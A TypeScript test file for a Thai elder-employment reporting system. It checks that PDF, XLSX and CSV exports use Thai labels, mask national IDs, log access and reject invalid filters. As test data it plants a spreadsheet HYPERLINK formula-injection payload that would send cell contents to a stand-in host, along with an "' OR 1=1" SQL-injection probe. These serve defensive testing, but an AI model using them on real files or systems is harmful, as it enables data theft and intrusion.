import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type { EmployerView } from '@elderwork/contracts';
import { nationalIdCheckDigit } from '@elderwork/thai';
import { overlaps, pdfRuns } from './support/pdf-layout';
import { TestApp, type TestLao, type TestUser } from './support/test-app';

/** Documents people file (issue 12 "Documents people file", issue 11 masking, formulas, enums; decision 0021). */
const FORMULA = '=HYPERLINK("//e.x/"&D2,ISERR(';
const LONG_NAME = 'นางสาวประภาพรรณ ศรีสุวรรณวงศ์ไพบูลย์เจริญรุ่งเรืองกิจ';

let seq = 0;
const registrationNumber = (): string => {
  const stem = `0105${String(Date.now() % 1e6).padStart(6, '0')}${String(seq++ % 100).padStart(2, '0')}`;
  return stem + String(nationalIdCheckDigit(stem));
};

const download = (req: ReturnType<TestApp['http']['get']>) =>
  req.buffer(true).parse((r, done) => { const chunks: Buffer[] = []; r.on('data', (c: Buffer) => chunks.push(c)); r.on('end', () => done(null, Buffer.concat(chunks))); });

const csvRows = (text: string): string[] => text.replace(/^\uFEFF/, '').trim().split('\n');

describe('documents people file', () => {
  let t: TestApp;
  let lao: TestLao;
  let staff: TestUser;
  let admin: TestUser;
  const elders: string[] = [];

  beforeAll(async () => {
    t = await TestApp.start();
    lao = await t.lao();
    staff = await t.user('staff', lao.id);
    admin = await t.user('lao_admin', lao.id);
    const employer = (await t.http.post('/api/employers').set(staff.auth).send({ name: 'บริษัท เอกสาร จำกัด', registrationNumber: registrationNumber(), provinceCode: lao.provinceCode }).expect(201)).body as EmployerView;
    for (const [i, disabilityType] of (['hearing', 'physical', 'visual'] as const).entries()) {
      const elder = await t.resident(staff, { sex: i % 2 ? 'male' : 'female', disabilityType });
      elders.push(elder.id);
      await t.http.post('/api/placements').set(staff.auth)
        .send({ residentId: elder.id, employerId: employer.id, modality: i === 2 ? 'concession' : 'other_assistance', startDate: '2025-01-01', endDate: '2025-12-31' }).expect(201);
    }
    // Names shaped like formulas, however they got in (an import, an old record): the exports must keep them inert.
    await t.owner.query(`UPDATE resident SET prefix = $2, first_name = 'ทดสอบ', last_name = 'สูตร))' WHERE id = $1`, [elders[0], FORMULA]);
    await t.owner.query(`UPDATE resident SET prefix = '+', first_name = 'บวก', last_name = 'ทดลอง' WHERE id = $1`, [elders[1]]);
    await t.owner.query(`UPDATE resident SET prefix = '@', first_name = 'แอท', last_name = 'ทดลอง' WHERE id = $1`, [elders[2]]);
    await t.owner.query(`UPDATE app_user SET display_name = $2 WHERE id = $1`, [staff.id, LONG_NAME]);
    await t.http.post('/api/reports/yearly/2568/submit').set(staff.auth).send({ yearType: 'calendar' }).expect(200);
    await t.http.post('/api/reports/yearly/2568/approve').set(admin.auth).send({ yearType: 'calendar' }).expect(200);
    // Steps at 00:30 in Bangkok on 2 October (17:30 UTC the day before) and 09:05 on 3 October.
    await t.owner.query(`UPDATE report_step SET at = CASE action WHEN 'submit' THEN timestamptz '2026-10-01T17:30:00Z' ELSE timestamptz '2026-10-03T02:05:00Z' END WHERE lao_id = $1`, [lao.id]);
  });
  afterAll(() => t.close());

  it('the PDF: no two text runs overlap in a row, Bangkok dates, page numbers, breakdowns, status and steps', async () => {
    const pdf = (await download(t.http.get('/api/reports/yearly/export').query({ year: 2568, yearType: 'calendar', version: 'approved', format: 'pdf' }).set(staff.auth)).expect(200)).body as Buffer;
    const runs = pdfRuns(pdf);
    expect(overlaps(runs).map(([a, b]) => `${a.str} × ${b.str}`)).toEqual([]);
    const text = runs.map((r) => r.str).join(' ');
    // 2026-10-01T17:30Z is 2 ต.ค. 2569 00:30 in Bangkok (UTC would say 1 ต.ค.).
    expect(text).toContain('2 ต.ค. 2569 00:30 น.');
    expect(text).toContain('3 ต.ค. 2569 09:05 น.');
    expect(text).not.toContain('1 ต.ค. 2569');
    const pages = runs[0]!.pages;
    for (let page = 1; page <= pages; page++) {
      expect(runs.filter((r) => r.page === page).map((r) => r.str).join('')).toContain(`หน้า ${page} / ${pages}`);
    }
    for (const heading of ['ตามประเภทความพิการ', 'ตามสถานประกอบการ', 'ตามช่วงอายุ', 'ตามเพศ', 'รายเดือน', 'ขั้นตอนของรายงาน']) expect(text).toContain(heading);
    expect(text).toContain('บริษัท เอกสาร จ');
    expect(text).toContain('การเห็น');
    expect(text).toContain('มกราคม 2568');
    expect(text).toContain('อนุมัติแล้ว');
    // The LAO's name reads back as written, whatever its marks (a low MAI EK once read back as SARA U).
    const { name } = (await t.owner.query<{ name: string }>('SELECT name FROM org_unit WHERE id = $1', [lao.id])).rows[0]!;
    expect(text.normalize('NFKC')).toContain(name.normalize('NFKC'));
    expect(text).toContain('การส่งเสริม');
    // Every page as a picture, for a person to look at.
    mkdirSync(join(process.cwd(), 'test-output'), { recursive: true });
    const file = join(process.cwd(), 'test-output', 'yearly-report.pdf');
    writeFileSync(file, pdf);
    execFileSync('pdftoppm', ['-png', '-r', '70', file, join(process.cwd(), 'test-output', 'yearly-report')]);
  });

  it('the report XLSX: Thai labels and BE months, numbers as numbers, no formula cells', async () => {
    const xlsx = (await download(t.http.get('/api/reports/yearly/export').query({ year: 2568, yearType: 'calendar', version: 'approved', format: 'xlsx' }).set(staff.auth)).expect(200)).body as Buffer;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    const values = workbook.worksheets.flatMap((sheet) => sheet.getSheetValues().flatMap((row) => (Array.isArray(row) ? row : [])));
    const texts = values.filter((v): v is string => typeof v === 'string');
    expect(texts).toContain('มกราคม 2568');
    expect(texts).toContain('การได้ยินหรือสื่อความหมาย');
    expect(texts).toContain('การเห็น');
    expect(texts).toContain('หญิง');
    expect(texts).toContain('การให้สัมปทาน');
    expect(texts.some((v) => /^\d{4}-\d{2}$/.test(v))).toBe(false);
    expect(texts.some((v) => ['hearing', 'none', 'male', 'female', 'concession'].includes(v))).toBe(false);
    expect(texts.some((v) => /[0-9a-f]{8}-[0-9a-f]{4}-/.test(v))).toBe(false);
    expect(values).toContain(3 * 120450);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });

  it('the drill-down CSV is in Thai, formula-shaped names are inert, and ?layout=codes keeps the machine layout', async () => {
    const res = await t.http.get('/api/reports/yearly/records/export').query({ year: 2568, yearType: 'calendar', model: 'section35', month: '2025-01' }).set(staff.auth).expect(200);
    const [header, ...lines] = csvRows(res.text);
    expect(header).toBe('รูปแบบการส่งเสริม,ชื่อ-นามสกุล,เลขประจำตัวประชาชน,เดือน,รายได้ (บาท),ที่มาของรายได้');
    expect(lines).toHaveLength(3);
    for (const line of lines) {
      expect(line).toMatch(/^การจ้างงานคนพิการตามมาตรา 35,/);
      expect(line).toContain(',มกราคม 2568,10230,ข้อตกลงตามมาตรา 35');
      expect(line).toMatch(/\d-\d{4}-x{5}-xx-\d/);
      expect(line).not.toMatch(/[0-9a-f]{8}-[0-9a-f]{4}-/);
    }
    // Each name field starts with a quote (inert text), never with = + @.
    const names = lines.map((l) => l.split(',').slice(1, -4).join(','));
    expect(names).toEqual(expect.arrayContaining([`"'${FORMULA.replace(/"/g, '""')}ทดสอบ สูตร))"`, "'+บวก ทดลอง", "'@แอท ทดลอง"]));
    for (const field of lines.flatMap((l) => l.split(','))) expect(field).not.toMatch(/^[=+\-@\t\r]/);

    const codes = await t.http.get('/api/reports/yearly/records/export').query({ year: 2568, yearType: 'calendar', model: 'section35', month: '2025-01', layout: 'codes' }).set(staff.auth).expect(200);
    const [codesHeader, codesLine] = csvRows(codes.text);
    expect(codesHeader).toBe('model,residentId,name,nationalId,month,income,sourceType,sourceId');
    expect(codesLine).toMatch(/^section35,[0-9a-f-]{36},.*,2025-01,10230\.00,placement,[0-9a-f-]{36}$/);
    await t.http.get('/api/reports/yearly/records/export').query({ year: 2568, layout: 'json' }).set(staff.auth).expect(400);
  });

  it('reading or exporting the records behind a figure is logged: who, which list, the filters, how many rows', async () => {
    const since = (await t.owner.query<{ now: Date }>('SELECT clock_timestamp() AS now')).rows[0]!.now;
    const read = await t.http.get('/api/reports/yearly/records').query({ year: 2568, yearType: 'calendar', model: 'section35' }).set(staff.auth).expect(200);
    await t.http.get('/api/reports/yearly/records/export').query({ year: 2568, yearType: 'calendar', model: 'section35', month: '2025-01' }).set(staff.auth).expect(200);
    const { rows } = await t.owner.query<{ actor_id: string; list: string; filters: Record<string, unknown>; count: number }>(
      `SELECT actor_id, list, filters, count FROM access_log WHERE lao_id = $1 AND at >= $2 ORDER BY at`,
      [lao.id, since],
    );
    expect(rows).toEqual([
      { actor_id: staff.id, list: 'GET /api/reports/yearly/records', filters: { year: 2568, yearType: 'calendar', model: 'section35' }, count: read.body.items.length },
      expect.objectContaining({ actor_id: staff.id, list: 'GET /api/reports/yearly/records/export', filters: expect.objectContaining({ month: '2025-01' }) }),
    ]);
  });

  it('the records endpoint masks national IDs; ageBand and disabilityType are checked against their enums', async () => {
    const records = await t.http.get('/api/reports/yearly/records').query({ year: 2568, yearType: 'calendar', model: 'section35' }).set(staff.auth).expect(200);
    expect(records.body.items.length).toBeGreaterThan(0);
    for (const r of records.body.items as { nationalId: string }[]) expect(r.nationalId).toMatch(/^\d-\d{4}-x{5}-xx-\d$/);
    const visual = await t.http.get('/api/reports/yearly/records').query({ year: 2568, yearType: 'calendar', disabilityType: 'visual' }).set(staff.auth).expect(200);
    expect(new Set(visual.body.items.map((r: { residentId: string }) => r.residentId))).toEqual(new Set([elders[2]]));
    await t.http.get('/api/reports/yearly/records').query({ year: 2568, yearType: 'calendar', disabilityType: 'none' }).set(staff.auth).expect(200);
    await t.http.get('/api/reports/yearly/records').query({ year: 2568, ageBand: 'under-60' }).set(staff.auth).expect(200);
    for (const [field, value] of [['ageBand', '60-70'], ['disabilityType', 'x'], ['ageBand', "' OR 1=1"]] as const) {
      for (const path of ['/api/reports/yearly/records', '/api/reports/yearly/records/export']) {
        const res = await t.http.get(path).query({ year: 2568, [field]: value }).set(staff.auth).expect(400);
        const error = (res.body.errors as { field: string; message: string }[]).find((e) => e.field === field);
        expect(error?.message).toMatch(/[\u0E00-\u0E7F]/);
      }
    }
  });

  it('the statistics CSV and XLSX are in Thai (codes layout on request), with no formula cells', async () => {
    const [laoRow] = (await t.owner.query<{ name: string }>(`SELECT name FROM org_unit WHERE id = $1`, [lao.id])).rows;
    await t.owner.query(`UPDATE org_unit SET name = '=1+2' WHERE id = $1`, [lao.id]);
    const dla = await t.user('dla_officer', await t.orgUnit('dla', 'DLA'));
    try {
      const csv = await t.http.get('/api/statistics/export').query({ year: 2568, yearType: 'calendar', groupBy: 'laoType', format: 'csv' }).set(dla.auth).expect(200);
      const [header, ...lines] = csvRows(csv.text);
      expect(header).toBe('ประเภท อปท.,การจ้างงานคนพิการตามมาตรา 35 (คน),การจ้างงานคนพิการตามมาตรา 35 (บาท),อาสาสมัครบริบาลท้องถิ่น (คน),อาสาสมัครบริบาลท้องถิ่น (บาท),อาชีพอิสระ (คน),อาชีพอิสระ (บาท),รวมทุกรูปแบบ (คน),รวมทุกรูปแบบ (บาท)');
      expect(lines.every((l) => /^[\u0E00-\u0E7F]/.test(l))).toBe(true);
      const byLao = await t.http.get('/api/statistics/export').query({ year: 2568, yearType: 'calendar', groupBy: 'lao', format: 'csv' }).set(dla.auth).expect(200);
      expect(csvRows(byLao.text)[0]!.startsWith('รหัส,องค์กรปกครองส่วนท้องถิ่น,')).toBe(true);
      for (const field of csvRows(byLao.text).flatMap((l) => l.split(','))) expect(field).not.toMatch(/^[=+\-@]/);
      const codes = await t.http.get('/api/statistics/export').query({ year: 2568, yearType: 'calendar', groupBy: 'laoType', format: 'csv', layout: 'codes' }).set(dla.auth).expect(200);
      expect(csvRows(codes.text)[0]).toBe('key,label,section35Persons,section35Income,caregiverPersons,caregiverIncome,occupationPersons,occupationIncome,totalPersons,totalIncome');
      const xlsx = (await download(t.http.get('/api/statistics/export').query({ year: 2568, yearType: 'calendar', groupBy: 'lao', format: 'xlsx' }).set(dla.auth)).expect(200)).body as Buffer;
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
      const values = workbook.worksheets[0]!.getSheetValues().flatMap((row) => (Array.isArray(row) ? row : []));
      expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
      expect(values).toContain('องค์กรปกครองส่วนท้องถิ่น');
    } finally {
      await t.owner.query(`UPDATE org_unit SET name = $2 WHERE id = $1`, [lao.id, laoRow!.name]);
    }
  });
});

describe('formula-shaped text in a CSV', () => {
  it('is prefixed with a quote, numbers (negative too) stay numbers', async () => {
    const { toCsv } = await import('../src/common/spreadsheet-cells');
    const csv = toCsv([['=1+2', '+1', '-x', '@a', '\tb', '\rc', 'ok', -5, 3.5, null]]).toString('utf8');
    expect(csv).toBe(`\uFEFF'=1+2,'+1,'-x,'@a,'\tb,"'\rc",ok,-5,3.5,\n`);
  });
});
